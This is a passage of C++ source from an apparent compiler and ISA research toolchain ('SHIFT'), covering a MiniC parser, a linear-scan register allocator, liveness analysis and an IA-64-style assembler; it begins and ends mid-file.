                e->op = op;
                advance();
                e->a = std::move(lhs);
                e->b = parseAssignExpr(); // right-associative
                return e;
            }
        }
        return lhs;
    }

    ExprPtr
    parseCondExpr()
    {
        ExprPtr cond = parseBinaryExpr(1);
        if (cur().isPunct("?")) {
            auto e = makeExpr(ExprKind::Cond);
            advance();
            e->a = std::move(cond);
            e->b = parseExpr();
            expectPunct(":");
            e->c = parseCondExpr();
            return e;
        }
        return cond;
    }

    ExprPtr
    parseBinaryExpr(int minPrec)
    {
        ExprPtr lhs = parseUnaryExpr();
        for (;;) {
            if (!cur().is(TokKind::Punct))
                break;
            auto it = kBinPrec.find(cur().text);
            if (it == kBinPrec.end() || it->second < minPrec)
                break;
            // Don't greedily eat '=' family here: handled by caller.
            auto e = makeExpr(ExprKind::Binary);
            e->op = cur().text;
            int prec = it->second;
            advance();
            e->a = std::move(lhs);
            e->b = parseBinaryExpr(prec + 1);
            lhs = std::move(e);
        }
        return lhs;
    }

    ExprPtr
    parseUnaryExpr()
    {
        static const char *kUnaryOps[] = {"-", "!", "~", "*", "&"};
        for (const char *op : kUnaryOps) {
            if (cur().isPunct(op)) {
                auto e = makeExpr(ExprKind::Unary);
                e->op = op;
                advance();
                e->a = parseUnaryExpr();
                return e;
            }
        }
        if (cur().isPunct("++") || cur().isPunct("--")) {
            auto e = makeExpr(ExprKind::Unary);
            e->op = cur().text;
            advance();
            e->a = parseUnaryExpr();
            return e;
        }
        // Cast: '(' type-keyword ... ')'.
        if (cur().isPunct("(") && peek().is(TokKind::Keyword) &&
            (peek().isKeyword("void") || peek().isKeyword("char") ||
             peek().isKeyword("int") || peek().isKeyword("long"))) {
            auto e = makeExpr(ExprKind::Cast);
            advance();
            e->castType = parsePointerSuffix(parseBaseType());
            expectPunct(")");
            e->a = parseUnaryExpr();
            return e;
        }
        return parsePostfixExpr();
    }

    ExprPtr
    parsePostfixExpr()
    {
        ExprPtr e = parsePrimaryExpr();
        for (;;) {
            if (cur().isPunct("[")) {
                auto idx = makeExpr(ExprKind::Index);
                advance();
                idx->a = std::move(e);
                idx->b = parseExpr();
                expectPunct("]");
                e = std::move(idx);
            } else if (cur().isPunct("++") || cur().isPunct("--")) {
                auto post = makeExpr(ExprKind::Postfix);
                post->op = cur().text;
                advance();
                post->a = std::move(e);
                e = std::move(post);
            } else {
                break;
            }
        }
        return e;
    }

    ExprPtr
    parsePrimaryExpr()
    {
        if (cur().is(TokKind::IntLit) || cur().is(TokKind::CharLit)) {
            auto e = makeExpr(ExprKind::IntLit);
            e->intVal = cur().intVal;
            advance();
            return e;
        }
        if (cur().is(TokKind::StrLit)) {
            auto e = makeExpr(ExprKind::StrLit);
            // Adjacent string literals concatenate, as in C.
            while (cur().is(TokKind::StrLit)) {
                e->strVal += cur().strVal;
                advance();
            }
            return e;
        }
        if (cur().isPunct("(")) {
            advance();
            ExprPtr e = parseExpr();
            expectPunct(")");
            return e;
        }
        if (cur().is(TokKind::Ident)) {
            std::string name = cur().text;
            int line = cur().line;
            advance();
            if (cur().isPunct("(")) {
                auto call = makeExpr(ExprKind::Call);
                call->name = name;
                call->line = line;
                advance();
                if (!cur().isPunct(")")) {
                    for (;;) {
                        call->args.push_back(parseAssignExpr());
                        if (!cur().isPunct(","))
                            break;
                        advance();
                    }
                }
                expectPunct(")");
                return call;
            }
            auto e = makeExpr(ExprKind::Ident);
            e->name = name;
            e->line = line;
            return e;
        }
        error("expected an expression");
    }

    std::vector<Token> tokens_;
    size_t pos_ = 0;
    TypePool &pool_;
};

} // namespace

TranslationUnit
parse(const std::string &source, TypePool &pool)
{
    Parser parser(tokenize(source), pool);
    return parser.parseUnit();
}

} // namespace shift::minic
