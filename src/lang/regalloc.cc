#include "regalloc.hh"

#include "lang/liveness.hh"

#include <algorithm>
#include <map>
#include <set>
#include <vector>

#include "support/logging.hh"

namespace shift::minic
{

namespace
{

/** Callee-saved registers handed out by the allocator. */
const int kPool[] = {4, 5, 6, 7, 9, 10, 11, 13, 14, 15, 24, 25, 26};
constexpr int kPoolSize = static_cast<int>(std::size(kPool));

/** Scratch registers used to expand spilled operands. */
constexpr int kScratchA = 2;
constexpr int kScratchB = 3;

bool
isVreg(int r)
{
    return r >= kFirstVreg;
}

/** One live interval. */
struct Interval
{
    int vreg = 0;
    int start = -1;
    int end = -1;
    int reg = -1;      ///< assigned physical register
    int slot = -1;     ///< assigned spill slot
};

} // namespace

AllocStats
allocateRegisters(Function &fn, const FuncGenInfo &info)
{
    AllocStats stats;
    int numVregs = info.numVregs;

    Cfg cfg = buildCfg(fn);
    size_t numBlocks = cfg.numBlocks();
    Liveness live = computeLiveness(
        fn, cfg, [](int r) { return r >= kFirstVreg; });
    const auto &liveIn = live.liveIn;
    const auto &liveOut = live.liveOut;

    // Conservative [min, max] live intervals.
    std::vector<Interval> ivals(static_cast<size_t>(numVregs));
    for (int v = 0; v < numVregs; ++v)
        ivals[static_cast<size_t>(v)].vreg = kFirstVreg + v;
    auto extend = [&](int vreg, int point) {
        Interval &iv = ivals[static_cast<size_t>(vreg - kFirstVreg)];
        if (iv.start < 0 || point < iv.start)
            iv.start = point;
        if (point > iv.end)
            iv.end = point;
    };
    for (size_t b = 0; b < numBlocks; ++b) {
        for (size_t i = cfg.blockStart[b]; i < cfg.blockEnd[b]; ++i) {
            Instr &instr = fn.code[i];
            forEachUse(instr, [&](uint16_t &r) {
                if (isVreg(r))
                    extend(r, static_cast<int>(i));
            });
            int d = defReg(instr);
            if (d >= 0 && isVreg(d))
                extend(d, static_cast<int>(i));
        }
        for (int v : liveIn[b])
            extend(v, static_cast<int>(cfg.blockStart[b]));
        for (int v : liveOut[b])
            extend(v, static_cast<int>(cfg.blockEnd[b]) - 1);
    }

    // Linear scan (Poletto & Sarkar).
    std::vector<Interval *> order;
    for (Interval &iv : ivals) {
        if (iv.start >= 0)
            order.push_back(&iv);
    }
    std::sort(order.begin(), order.end(),
              [](const Interval *a, const Interval *b) {
                  return a->start < b->start;
              });

    std::vector<int> freeRegs(kPool, kPool + kPoolSize);
    std::vector<Interval *> active; // sorted by increasing end
    int nextSlot = 0;

    auto insertActive = [&](Interval *iv) {
        auto pos = std::lower_bound(
            active.begin(), active.end(), iv,
            [](const Interval *a, const Interval *b) {
                return a->end < b->end;
            });
        active.insert(pos, iv);
    };

    for (Interval *iv : order) {
        // Expire finished intervals.
        while (!active.empty() && active.front()->end < iv->start) {
            freeRegs.push_back(active.front()->reg);
            active.erase(active.begin());
        }
        if (!freeRegs.empty()) {
            iv->reg = freeRegs.back();
            freeRegs.pop_back();
            insertActive(iv);
            ++stats.assigned;
        } else {
            Interval *victim = active.back();
            if (victim->end > iv->end) {
                // Steal the register; spill the victim.
                iv->reg = victim->reg;
                victim->reg = -1;
                victim->slot = nextSlot++;
                active.pop_back();
                insertActive(iv);
                ++stats.spilled;
            } else {
                iv->slot = nextSlot++;
                ++stats.spilled;
            }
        }
    }

    // Frame layout: [objects][spill slots][unat][saved registers].
    std::set<int> usedRegs;
    for (const Interval &iv : ivals) {
        if (iv.reg >= 0)
            usedRegs.insert(iv.reg);
    }
    uint64_t spillBase = (info.objectBytes + 7) & ~7ULL;
    uint64_t unatSlot = spillBase + 8ULL * static_cast<uint64_t>(nextSlot);
    uint64_t saveBase = unatSlot + 8;
    uint64_t frameSize = saveBase + 8ULL * usedRegs.size();
    frameSize = (frameSize + 15) & ~15ULL;
    bool needFrame = frameSize > 0 &&
                     (info.objectBytes || nextSlot || !usedRegs.empty());
    stats.frameSize = needFrame ? frameSize : 0;

    auto slotOffset = [&](int slot) {
        return static_cast<int64_t>(spillBase + 8ULL *
                                    static_cast<uint64_t>(slot));
    };

    // Rewrite instructions: map assigned vregs, expand spilled ones.
    std::vector<Instr> out;
    out.reserve(fn.code.size() + 16);

    auto mapped = [&](int vreg) -> const Interval & {
        return ivals[static_cast<size_t>(vreg - kFirstVreg)];
    };

    auto emitFill = [&](int scratch, int slot, Provenance prov) {
        Instr addr = makeAluImm(Opcode::Add, scratch, reg::sp,
                                slotOffset(slot));
        addr.prov = prov;
        out.push_back(addr);
        Instr load = makeLd(scratch, scratch, 8);
        load.fill = true;
        load.prov = prov;
        out.push_back(load);
    };
    auto emitSpill = [&](int scratch, int slot, uint8_t qp,
                         Provenance prov) {
        Instr addr = makeAluImm(Opcode::Add, kScratchB, reg::sp,
                                slotOffset(slot));
        addr.prov = prov;
        out.push_back(addr);
        Instr store = makeSt(kScratchB, scratch, 8);
        store.spill = true;
        store.qp = qp;
        store.prov = prov;
        out.push_back(store);
    };

    for (Instr &instr : fn.code) {
        if (instr.op == Opcode::Label) {
            out.push_back(instr);
            continue;
        }
        Instr rewritten = instr;
        int defSlot = -1;
        bool scratchAUsed = false;

        // Sources first.
        forEachUse(rewritten, [&](uint16_t &r) {
            if (!isVreg(r))
                return;
            const Interval &iv = mapped(r);
            if (iv.reg >= 0) {
                r = static_cast<uint16_t>(iv.reg);
            } else {
                SHIFT_ASSERT(iv.slot >= 0, "vreg neither reg nor slot");
                int scratch = scratchAUsed ? kScratchB : kScratchA;
                scratchAUsed = true;
                emitFill(scratch, iv.slot, rewritten.prov);
                r = static_cast<uint16_t>(scratch);
            }
        });

        // Destination.
        int d = defReg(rewritten);
        if (d >= 0 && isVreg(d)) {
            const Interval &iv = mapped(d);
            if (iv.reg >= 0) {
                rewritten.r1 = static_cast<uint16_t>(iv.reg);
            } else {
                rewritten.r1 = kScratchA;
                defSlot = iv.slot;
            }
        }

        out.push_back(rewritten);
        if (defSlot >= 0)
            emitSpill(kScratchA, defSlot, rewritten.qp, rewritten.prov);
    }
    fn.code = std::move(out);

    if (!needFrame)
        return stats;

    // Prologue.
    std::vector<Instr> prologue;
    prologue.push_back(makeAluImm(Opcode::Add, reg::sp, reg::sp,
                                  -static_cast<int64_t>(frameSize)));
    {
        Instr get;
        get.op = Opcode::MovFromUnat;
        get.r1 = kScratchA;
        prologue.push_back(get);
        prologue.push_back(makeAluImm(Opcode::Add, kScratchB, reg::sp,
                                      static_cast<int64_t>(unatSlot)));
        // Spill form: compiler-internal traffic that instrumentation
        // passes recognize and skip (the saved UNAT is never tainted).
        Instr save = makeSt(kScratchB, kScratchA, 8);
        save.spill = true;
        prologue.push_back(save);
    }
    {
        int i = 0;
        for (int r : usedRegs) {
            prologue.push_back(makeAluImm(
                Opcode::Add, kScratchB, reg::sp,
                static_cast<int64_t>(saveBase) + 8 * i));
            Instr save = makeSt(kScratchB, r, 8);
            save.spill = true;
            prologue.push_back(save);
            ++i;
        }
    }
    fn.code.insert(fn.code.begin(), prologue.begin(), prologue.end());

    // Epilogue: rebuild state just before the final br.ret.
    SHIFT_ASSERT(!fn.code.empty() &&
                     fn.code.back().op == Opcode::BrRet,
                 "function must end in br.ret");
    std::vector<Instr> epilogue;
    {
        int i = 0;
        for (int r : usedRegs) {
            epilogue.push_back(makeAluImm(
                Opcode::Add, kScratchB, reg::sp,
                static_cast<int64_t>(saveBase) + 8 * i));
            Instr load = makeLd(r, kScratchB, 8);
            load.fill = true;
            epilogue.push_back(load);
            ++i;
        }
    }
    {
        epilogue.push_back(makeAluImm(Opcode::Add, kScratchB, reg::sp,
                                      static_cast<int64_t>(unatSlot)));
        Instr restore = makeLd(kScratchA, kScratchB, 8);
        restore.fill = true;
        epilogue.push_back(restore);
        Instr set;
        set.op = Opcode::MovToUnat;
        set.r2 = kScratchA;
        epilogue.push_back(set);
    }
    epilogue.push_back(makeAluImm(Opcode::Add, reg::sp, reg::sp,
                                  static_cast<int64_t>(frameSize)));
    fn.code.insert(fn.code.end() - 1, epilogue.begin(), epilogue.end());

    return stats;
}

} // namespace shift::minic
