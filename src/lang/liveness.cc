#include "liveness.hh"

#include "support/logging.hh"

namespace shift::minic
{

Cfg
buildCfg(const Function &fn)
{
    std::vector<int32_t> labelPos(static_cast<size_t>(fn.nextLabel), -1);
    for (size_t i = 0; i < fn.code.size(); ++i) {
        const Instr &instr = fn.code[i];
        if (instr.op == Opcode::Label) {
            if (static_cast<size_t>(instr.imm) >= labelPos.size())
                labelPos.resize(static_cast<size_t>(instr.imm) + 1, -1);
            labelPos[static_cast<size_t>(instr.imm)] =
                static_cast<int32_t>(i);
        }
    }

    size_t n = fn.code.size();
    std::vector<bool> leader(n + 1, false);
    if (n)
        leader[0] = true;
    for (size_t i = 0; i < n; ++i) {
        const Instr &instr = fn.code[i];
        if (instr.op == Opcode::Label)
            leader[i] = true;
        if (instr.op == Opcode::Br || instr.op == Opcode::BrRet ||
            instr.op == Opcode::Chk) {
            if (i + 1 < n)
                leader[i + 1] = true;
        }
    }

    Cfg cfg;
    cfg.blockOf.assign(n, 0);
    for (size_t i = 0; i < n;) {
        size_t j = i + 1;
        while (j < n && !leader[j])
            ++j;
        cfg.blockStart.push_back(i);
        cfg.blockEnd.push_back(j);
        for (size_t k = i; k < j; ++k)
            cfg.blockOf[k] = static_cast<int>(cfg.blockStart.size()) - 1;
        i = j;
    }

    auto blockOfLabel = [&](int64_t label) {
        int32_t pos = labelPos[static_cast<size_t>(label)];
        SHIFT_ASSERT(pos >= 0, "branch to undefined label");
        return cfg.blockOf[static_cast<size_t>(pos)];
    };

    cfg.succ.resize(cfg.numBlocks());
    for (size_t b = 0; b < cfg.numBlocks(); ++b) {
        size_t last = cfg.blockEnd[b] - 1;
        const Instr &instr = fn.code[last];
        bool fallsThrough = true;
        if (instr.op == Opcode::Br) {
            cfg.succ[b].push_back(blockOfLabel(instr.imm));
            fallsThrough = instr.qp != 0; // predicated branch may fall
        } else if (instr.op == Opcode::Chk) {
            cfg.succ[b].push_back(blockOfLabel(instr.imm));
        } else if (instr.op == Opcode::BrRet) {
            fallsThrough = false;
        }
        if (fallsThrough && b + 1 < cfg.numBlocks())
            cfg.succ[b].push_back(static_cast<int>(b) + 1);
    }
    return cfg;
}

Liveness
computeLiveness(const Function &fn, const Cfg &cfg,
                bool (*tracked)(int reg))
{
    size_t numBlocks = cfg.numBlocks();
    std::vector<std::set<int>> use(numBlocks), def(numBlocks);
    for (size_t b = 0; b < numBlocks; ++b) {
        for (size_t i = cfg.blockStart[b]; i < cfg.blockEnd[b]; ++i) {
            const Instr &instr = fn.code[i];
            forEachUse(instr, [&](uint16_t r) {
                if (tracked(r) && !def[b].count(r))
                    use[b].insert(r);
            });
            int d = defReg(instr);
            // A predicated definition may not execute: it does not
            // kill the incoming value.
            if (d >= 0 && tracked(d) && instr.qp == 0)
                def[b].insert(d);
        }
    }

    Liveness live;
    live.liveIn.resize(numBlocks);
    live.liveOut.resize(numBlocks);
    bool changed = true;
    while (changed) {
        changed = false;
        for (size_t b = numBlocks; b-- > 0;) {
            std::set<int> out;
            for (int s : cfg.succ[b]) {
                out.insert(live.liveIn[static_cast<size_t>(s)].begin(),
                           live.liveIn[static_cast<size_t>(s)].end());
            }
            std::set<int> in = use[b];
            for (int v : out) {
                if (!def[b].count(v))
                    in.insert(v);
            }
            if (out != live.liveOut[b] || in != live.liveIn[b]) {
                live.liveOut[b] = std::move(out);
                live.liveIn[b] = std::move(in);
                changed = true;
            }
        }
    }
    return live;
}

bool
liveAt(const Liveness &live, const Cfg &cfg, size_t target, int reg)
{
    int block = cfg.blockOf[target];
    return live.liveIn[static_cast<size_t>(block)].count(reg) != 0;
}

} // namespace shift::minic
