/**
 * @file
 * MiniC recursive-descent parser.
 */

#ifndef SHIFT_LANG_PARSER_HH
#define SHIFT_LANG_PARSER_HH

#include <string>

#include "lang/ast.hh"
#include "lang/type.hh"

namespace shift::minic
{

/**
 * Parse MiniC source into an AST. Types are interned in `pool`, which
 * must outlive the returned tree. Throws FatalError on syntax errors.
 */
TranslationUnit parse(const std::string &source, TypePool &pool);

} // namespace shift::minic

#endif // SHIFT_LANG_PARSER_HH
