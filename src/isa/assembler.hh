/**
 * @file
 * SHIFT-64 assembler: parses the disassembler's syntax back into
 * programs.
 *
 * Useful for writing architectural tests as readable text, for
 * round-trip checks against the disassembler, and for hand-crafting
 * code sequences (e.g. the paper's figure-5 listings) without going
 * through the MiniC compiler. Accepted form, one instruction per
 * line:
 *
 *     func main:
 *         movl r4 = 42
 *         cmp.eq p1, p2 = r4, 42
 *         (p1) br L0
 *         halt
 *     L0:
 *         mov r8 = r4
 *         br.ret
 *
 * Comments run from ';' or '//' to end of line. Labels may be
 * "L<number>" or any identifier. Function bodies start after a
 * "func <name>:" header.
 */

#ifndef SHIFT_ISA_ASSEMBLER_HH
#define SHIFT_ISA_ASSEMBLER_HH

#include <string>

#include "isa/program.hh"

namespace shift
{

/**
 * Assemble a whole program. Throws FatalError with a line number on
 * malformed input. The entry point is "main" when present, else the
 * first function.
 */
Program assemble(const std::string &source);

/** Assemble a single instruction line (no label definitions). */
Instr assembleLine(const std::string &line);

} // namespace shift

#endif // SHIFT_ISA_ASSEMBLER_HH
