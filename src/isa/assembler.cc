#include "assembler.hh"

#include <cctype>
#include <map>
#include <sstream>
#include <vector>

#include "support/config.hh"
#include "support/logging.hh"

namespace shift
{

namespace
{

/** Token stream over one instruction line. */
class LineLexer
{
  public:
    explicit LineLexer(const std::string &line, int lineno)
        : line_(line), lineno_(lineno)
    {
        tokenize();
    }

    bool atEnd() const { return pos_ >= tokens_.size(); }
    const std::string &
    peek() const
    {
        static const std::string empty;
        return atEnd() ? empty : tokens_[pos_];
    }
    std::string
    next()
    {
        if (atEnd())
            fail("unexpected end of line");
        return tokens_[pos_++];
    }
    bool
    accept(const std::string &tok)
    {
        if (!atEnd() && tokens_[pos_] == tok) {
            ++pos_;
            return true;
        }
        return false;
    }
    void
    expect(const std::string &tok)
    {
        if (!accept(tok))
            fail("expected '" + tok + "', got '" + peek() + "'");
    }

    [[noreturn]] void
    fail(const std::string &msg) const
    {
        SHIFT_FATAL("asm line %d: %s (in '%s')", lineno_, msg.c_str(),
                    line_.c_str());
    }

    /** Parse rN. */
    int
    gpr()
    {
        std::string tok = next();
        if (tok.size() < 2 || tok[0] != 'r')
            fail("expected a general register, got '" + tok + "'");
        int n = parseInt(tok.substr(1));
        if (n < 0 || n >= kNumGpr)
            fail("register out of range: " + tok);
        return n;
    }

    /** Parse pN. */
    int
    pr()
    {
        std::string tok = next();
        if (tok.size() < 2 || tok[0] != 'p')
            fail("expected a predicate register, got '" + tok + "'");
        int n = parseInt(tok.substr(1));
        if (n < 0 || n >= kNumPred)
            fail("predicate out of range: " + tok);
        return n;
    }

    /** Parse bN. */
    int
    br()
    {
        std::string tok = next();
        if (tok.size() < 2 || tok[0] != 'b')
            fail("expected a branch register, got '" + tok + "'");
        int n = parseInt(tok.substr(1));
        if (n < 0 || n >= kNumBr)
            fail("branch register out of range: " + tok);
        return n;
    }

    /** Parse a signed integer literal. */
    int64_t
    imm()
    {
        std::string tok = next();
        bool neg = false;
        if (tok == "-") {
            neg = true;
            tok = next();
        }
        try {
            size_t used = 0;
            uint64_t v = std::stoull(tok, &used, 0);
            if (used != tok.size())
                throw std::invalid_argument(tok);
            int64_t s = static_cast<int64_t>(v);
            return neg ? -s : s;
        } catch (const std::exception &) {
            fail("expected an integer, got '" + tok + "'");
        }
    }

    /** True when the next token looks like a register rN. */
    bool
    peekGpr() const
    {
        const std::string &tok = peek();
        return tok.size() >= 2 && tok[0] == 'r' &&
               std::isdigit(static_cast<unsigned char>(tok[1]));
    }

    int
    parseInt(const std::string &text)
    {
        try {
            return std::stoi(text);
        } catch (const std::exception &) {
            fail("bad number '" + text + "'");
        }
    }

  private:
    void
    tokenize()
    {
        size_t i = 0;
        size_t n = line_.size();
        while (i < n) {
            char c = line_[i];
            if (std::isspace(static_cast<unsigned char>(c))) {
                ++i;
                continue;
            }
            if (std::isalnum(static_cast<unsigned char>(c)) ||
                c == '_' || c == '.') {
                size_t start = i;
                while (i < n &&
                       (std::isalnum(
                            static_cast<unsigned char>(line_[i])) ||
                        line_[i] == '_' || line_[i] == '.'))
                    ++i;
                tokens_.push_back(line_.substr(start, i - start));
                continue;
            }
            tokens_.push_back(std::string(1, c));
            ++i;
        }
    }

    std::string line_;
    int lineno_;
    std::vector<std::string> tokens_;
    size_t pos_ = 0;
};

/** Per-function label interning. */
struct LabelTable
{
    Function *fn = nullptr;
    std::map<std::string, int> ids;

    int
    intern(const std::string &name)
    {
        auto it = ids.find(name);
        if (it != ids.end())
            return it->second;
        int id = fn->newLabel();
        ids[name] = id;
        return id;
    }
};

/** Split "ld8.s" into ("ld", 8, {"s"}). */
struct Mnemonic
{
    std::string base;   ///< letters before any digit/dot
    int size = 0;       ///< trailing digits of the first part
    std::vector<std::string> suffixes;
};

Mnemonic
splitMnemonic(const std::string &text)
{
    Mnemonic m;
    std::vector<std::string> parts = splitTrim(text, '.');
    const std::string &head = parts[0];
    size_t i = 0;
    while (i < head.size() &&
           !std::isdigit(static_cast<unsigned char>(head[i])))
        ++i;
    m.base = head.substr(0, i);
    if (i < head.size())
        m.size = std::stoi(head.substr(i));
    for (size_t p = 1; p < parts.size(); ++p)
        m.suffixes.push_back(parts[p]);
    return m;
}

bool
hasSuffix(const Mnemonic &m, const char *sfx)
{
    for (const std::string &s : m.suffixes) {
        if (s == sfx)
            return true;
    }
    return false;
}

std::map<std::string, Opcode>
aluOpcodes()
{
    return {
        {"add", Opcode::Add},     {"sub", Opcode::Sub},
        {"mul", Opcode::Mul},     {"div", Opcode::Div},
        {"mod", Opcode::Mod},     {"and", Opcode::And},
        {"andcm", Opcode::Andcm}, {"or", Opcode::Or},
        {"xor", Opcode::Xor},     {"shl", Opcode::Shl},
    };
}

CmpRel
relFromName(LineLexer &lex, const std::string &name)
{
    if (name == "eq") return CmpRel::Eq;
    if (name == "ne") return CmpRel::Ne;
    if (name == "lt") return CmpRel::Lt;
    if (name == "le") return CmpRel::Le;
    if (name == "gt") return CmpRel::Gt;
    if (name == "ge") return CmpRel::Ge;
    if (name == "ltu") return CmpRel::LtU;
    if (name == "leu") return CmpRel::LeU;
    if (name == "gtu") return CmpRel::GtU;
    if (name == "geu") return CmpRel::GeU;
    lex.fail("unknown compare relation '" + name + "'");
}

/** Parse "rA, rB" or "rA, imm" into instr.{r2, r3/imm}. */
void
parseTwoSources(LineLexer &lex, Instr &instr)
{
    instr.r2 = static_cast<uint16_t>(lex.gpr());
    lex.expect(",");
    if (lex.peekGpr()) {
        instr.r3 = static_cast<uint16_t>(lex.gpr());
    } else {
        instr.useImm = true;
        instr.imm = lex.imm();
    }
}

Instr
parseInstr(LineLexer &lex, LabelTable *labels)
{
    Instr instr;

    // Qualifying predicate.
    if (lex.accept("(")) {
        instr.qp = static_cast<uint8_t>(lex.pr());
        lex.expect(")");
    }

    std::string rawMnemonic = lex.next();
    Mnemonic m = splitMnemonic(rawMnemonic);
    auto alu = aluOpcodes();

    auto labelOperand = [&]() -> int64_t {
        std::string name = lex.next();
        if (!labels)
            lex.fail("label operand outside a function body");
        return labels->intern(name);
    };

    if (m.base == "nop") {
        instr.op = Opcode::Nop;
    } else if (m.base == "halt") {
        instr.op = Opcode::Halt;
    } else if (m.base == "syscall") {
        instr.op = Opcode::Syscall;
        instr.imm = lex.imm();
    } else if (m.base == "setnat" || m.base == "clrnat") {
        instr.op = m.base == "setnat" ? Opcode::Setnat : Opcode::Clrnat;
        instr.r1 = static_cast<uint16_t>(lex.gpr());
    } else if (m.base == "movl") {
        instr.op = Opcode::Movi;
        instr.useImm = true;
        instr.r1 = static_cast<uint16_t>(lex.gpr());
        lex.expect("=");
        instr.imm = lex.imm();
    } else if (m.base == "mov") {
        // mov rD = rS | mov rD = bN | mov bN = rS
        // mov ar.unat = rS | mov rD = ar.unat
        const std::string &dst = lex.peek();
        if (dst == "ar.unat") {
            lex.next();
            lex.expect("=");
            instr.op = Opcode::MovToUnat;
            instr.r2 = static_cast<uint16_t>(lex.gpr());
        } else if (!dst.empty() && dst[0] == 'b' && dst.size() >= 2 &&
                   std::isdigit(static_cast<unsigned char>(dst[1]))) {
            instr.op = Opcode::MovToBr;
            instr.br = static_cast<uint8_t>(lex.br());
            lex.expect("=");
            instr.r2 = static_cast<uint16_t>(lex.gpr());
        } else {
            instr.r1 = static_cast<uint16_t>(lex.gpr());
            lex.expect("=");
            const std::string &src = lex.peek();
            if (src == "ar.unat") {
                lex.next();
                instr.op = Opcode::MovFromUnat;
            } else if (!src.empty() && src[0] == 'b' &&
                       src.size() >= 2 &&
                       std::isdigit(
                           static_cast<unsigned char>(src[1]))) {
                instr.op = Opcode::MovFromBr;
                instr.br = static_cast<uint8_t>(lex.br());
            } else {
                instr.op = Opcode::Mov;
                instr.r2 = static_cast<uint16_t>(lex.gpr());
            }
        }
    } else if (m.base == "sxt" || m.base == "zxt") {
        instr.op = m.base == "sxt" ? Opcode::Sxt : Opcode::Zxt;
        instr.size = static_cast<uint8_t>(m.size);
        instr.r1 = static_cast<uint16_t>(lex.gpr());
        lex.expect("=");
        instr.r2 = static_cast<uint16_t>(lex.gpr());
    } else if (m.base == "extr") {
        instr.op = Opcode::Extr;
        instr.r1 = static_cast<uint16_t>(lex.gpr());
        lex.expect("=");
        instr.r2 = static_cast<uint16_t>(lex.gpr());
        lex.expect(",");
        instr.pos = static_cast<uint8_t>(lex.imm());
        lex.expect(",");
        instr.len = static_cast<uint8_t>(lex.imm());
    } else if (m.base == "shladd") {
        instr.op = Opcode::Shladd;
        instr.r1 = static_cast<uint16_t>(lex.gpr());
        lex.expect("=");
        instr.r2 = static_cast<uint16_t>(lex.gpr());
        lex.expect(",");
        instr.pos = static_cast<uint8_t>(lex.imm());
        lex.expect(",");
        if (lex.peekGpr()) {
            instr.r3 = static_cast<uint16_t>(lex.gpr());
        } else {
            instr.useImm = true;
            instr.imm = lex.imm();
        }
    } else if (m.base == "shr") {
        // shr.u = logical, shr = arithmetic (IA-64 convention).
        instr.op = hasSuffix(m, "u") ? Opcode::Shr : Opcode::Sar;
        instr.r1 = static_cast<uint16_t>(lex.gpr());
        lex.expect("=");
        parseTwoSources(lex, instr);
    } else if (m.base == "div" || m.base == "mod") {
        instr.op = hasSuffix(m, "u")
                       ? (m.base == "div" ? Opcode::DivU : Opcode::ModU)
                       : (m.base == "div" ? Opcode::Div : Opcode::Mod);
        instr.r1 = static_cast<uint16_t>(lex.gpr());
        lex.expect("=");
        parseTwoSources(lex, instr);
    } else if (alu.count(m.base)) {
        instr.op = alu[m.base];
        instr.r1 = static_cast<uint16_t>(lex.gpr());
        lex.expect("=");
        parseTwoSources(lex, instr);
    } else if (m.base == "cmp") {
        instr.op = hasSuffix(m, "nat") ? Opcode::CmpNat : Opcode::Cmp;
        std::string rel = m.suffixes.empty() ? "" : m.suffixes.back();
        instr.rel = relFromName(lex, rel);
        instr.p1 = static_cast<uint8_t>(lex.pr());
        lex.expect(",");
        instr.p2 = static_cast<uint8_t>(lex.pr());
        lex.expect("=");
        parseTwoSources(lex, instr);
    } else if (m.base == "tnat" || m.base == "tbit") {
        instr.op = m.base == "tnat" ? Opcode::Tnat : Opcode::Tbit;
        instr.p1 = static_cast<uint8_t>(lex.pr());
        lex.expect(",");
        instr.p2 = static_cast<uint8_t>(lex.pr());
        lex.expect("=");
        instr.r2 = static_cast<uint16_t>(lex.gpr());
        if (instr.op == Opcode::Tbit) {
            lex.expect(",");
            instr.imm = lex.imm();
        }
    } else if (m.base == "ld") {
        instr.op = Opcode::Ld;
        instr.size = static_cast<uint8_t>(m.size ? m.size : 8);
        instr.spec = hasSuffix(m, "s");
        instr.fill = hasSuffix(m, "fill");
        instr.r1 = static_cast<uint16_t>(lex.gpr());
        lex.expect("=");
        lex.expect("[");
        instr.r2 = static_cast<uint16_t>(lex.gpr());
        lex.expect("]");
    } else if (m.base == "st") {
        instr.op = Opcode::St;
        instr.size = static_cast<uint8_t>(m.size ? m.size : 8);
        instr.spill = hasSuffix(m, "spill");
        lex.expect("[");
        instr.r1 = static_cast<uint16_t>(lex.gpr());
        lex.expect("]");
        lex.expect("=");
        instr.r2 = static_cast<uint16_t>(lex.gpr());
    } else if (m.base == "chk") {
        instr.op = Opcode::Chk;
        instr.r2 = static_cast<uint16_t>(lex.gpr());
        lex.expect(",");
        instr.imm = labelOperand();
    } else if (m.base == "br") {
        if (hasSuffix(m, "ret")) {
            instr.op = Opcode::BrRet;
        } else if (hasSuffix(m, "call")) {
            instr.op = Opcode::BrCall;
            instr.callee = lex.next();
        } else if (hasSuffix(m, "calli")) {
            instr.op = Opcode::BrCalli;
            instr.br = static_cast<uint8_t>(lex.br());
        } else {
            instr.op = Opcode::Br;
            instr.imm = labelOperand();
        }
    } else {
        lex.fail("unknown mnemonic '" + rawMnemonic + "'");
    }

    if (!lex.atEnd())
        lex.fail("trailing tokens after instruction");
    return instr;
}

std::string
stripComment(const std::string &line)
{
    size_t semi = line.find(';');
    size_t slashes = line.find("//");
    size_t cut = std::min(semi == std::string::npos ? line.size() : semi,
                          slashes == std::string::npos ? line.size()
                                                       : slashes);
    return trim(line.substr(0, cut));
}

} // namespace

Instr
assembleLine(const std::string &line)
{
    LineLexer lex(stripComment(line), 1);
    return parseInstr(lex, nullptr);
}

Program
assemble(const std::string &source)
{
    Program program;
    Function *current = nullptr;
    LabelTable labels;

    std::istringstream in(source);
    std::string raw;
    int lineno = 0;
    while (std::getline(in, raw)) {
        ++lineno;
        std::string line = stripComment(raw);
        if (line.empty())
            continue;

        if (line.rfind("func ", 0) == 0) {
            std::string name = trim(line.substr(5));
            if (!name.empty() && name.back() == ':')
                name.pop_back();
            if (name.empty())
                SHIFT_FATAL("asm line %d: missing function name",
                            lineno);
            Function fn;
            fn.name = trim(name);
            program.addFunction(std::move(fn));
            current = &program.functions.back();
            labels = LabelTable{};
            labels.fn = current;
            continue;
        }
        if (!current)
            SHIFT_FATAL("asm line %d: code before any 'func' header",
                        lineno);

